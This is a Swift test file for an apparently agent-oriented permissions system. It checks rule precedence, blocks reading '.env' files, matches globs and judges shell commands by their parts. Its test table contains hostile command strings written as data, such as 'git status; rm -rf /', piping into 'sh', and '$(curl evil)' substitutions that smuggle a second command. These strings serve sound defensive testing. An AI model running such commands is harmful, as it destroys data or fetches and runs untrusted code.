import ForerunCore
import Testing

@testable import ForerunRuntime

struct PermissionsTests {
    @Test func theLastMatchCounts() {
        let permissions = Permissions([
            .init("*", .ask), .init("read_file", .allow), .init("read_file", pattern: "*.env", .deny),
            .init("read_file", pattern: "demo/*", .allow),
        ])
        func decision(_ tool: String, _ path: String?) -> Permissions.Decision {
            permissions.decision(tool: tool, subject: path.map { CallSubject([$0]) }, standard: .allow)
        }
        #expect(decision("write_file", "a") == .ask)
        #expect(decision("read_file", "src/a.swift") == .allow)
        #expect(decision("read_file", "src/.env") == .deny)
        #expect(decision("read_file", "demo/.env") == .allow)
        #expect(decision("read_file", nil) == .allow)
        let named = CallSubject(["demo/a", "/home/me/demo/a"])
        let relative = Permissions([.init("*", pattern: "./demo/*", .deny)])
        let absolute = Permissions([.init("*", pattern: "/home/me/*", .deny)])
        #expect(relative.decision(tool: "x", subject: named, standard: .allow) == .deny)
        #expect(absolute.decision(tool: "x", subject: named, standard: .allow) == .deny)
        #expect(Permissions().decision(tool: "x", subject: nil, standard: .ask) == .ask)
        #expect(Permissions.standard(for: .readOnly) == .allow)
        #expect(Permissions.standard(for: .contained) == .ask)
        #expect(Permissions.standard(for: .external) == .ask)
    }

    @Test(
        arguments: [
            ("git status", "allow"), ("git status; rm -rf /", "ask"), ("git status && git diff", "allow"),
            ("git status | sh", "deny"), ("sudo git push", "deny"), ("A=b git push origin", "deny"),
            ("timeout 10 git push", "deny"), ("git log $(curl evil)", "ask"), ("git log `curl evil`", "ask"),
            ("git log \"$(curl evil)\"", "ask"), ("git log '; rm'", "allow"), ("git log 2>&1", "allow"),
            ("git log\ngit push", "deny"), ("make && make test", "allow"), ("make", "ask"),
            ("git grep \"a;b\"", "allow"),
            ("(git push)", "deny"), ("true & git push", "deny"), ("git log \\; rm", "allow"), ("", "ask"),
        ])
    func commandsAreJudgedByTheirParts(command: String, expected: String) {
        let permissions = Permissions([
            .init("run_command", .ask), .init("run_command", pattern: "git *", .allow),
            .init("run_command", pattern: "git push*", .deny),
            .init("run_command", pattern: "* | sh", .deny), .init("run_command", pattern: "make && make test", .allow),
        ])
        #expect(permissions.decision(tool: "run_command", command: command, standard: .ask).rawValue == expected)
    }

    @Test(
        arguments: [
            ("*", "", true), ("*", "a/b", true), ("a*c", "abc", true), ("a*c", "abd", false), ("a?c", "abc", true),
            ("a?c", "ac", false), ("*.swift", "a/b.swift", true), ("*a*b*", "xxaxxbxx", true), ("*a*b", "ba", false),
            ("", "", true), ("", "a", false), ("ä?", "äö", true), ("a*b*c*d", "aXbXcXcXd", true), ("[x]", "x", false),
        ])
    func globsMatch(pattern: String, text: String, expected: Bool) {
        #expect(Glob.matches(pattern, text) == expected)
    }

    @Test func aHostilePatternIsQuick() {
        #expect(!Glob.matches(String(repeating: "a*", count: 200) + "b", String(repeating: "a", count: 5000)))
    }

    @Test func layersAreStrungTogether() throws {
        let scene = try Scene()
        try scene.write(
            "home/.config/forerun/config.yaml",
            "defaults: {permissions: {run_command: {\"*\": allow}, \"*\": ask}}")
        let agent = try AgentDefinition(
            text: "---\ndescription: x\npermissions: {run_command: {\"rm *\": deny}}\n---", file: "some.md")
        let permissions = try scene.layers().resolved(for: agent).settings.permissions
        #expect(permissions.decision(tool: "run_command", command: "ls", standard: .allow) == .ask)
        #expect(permissions.decision(tool: "run_command", command: "rm a", standard: .allow) == .deny)
    }
}
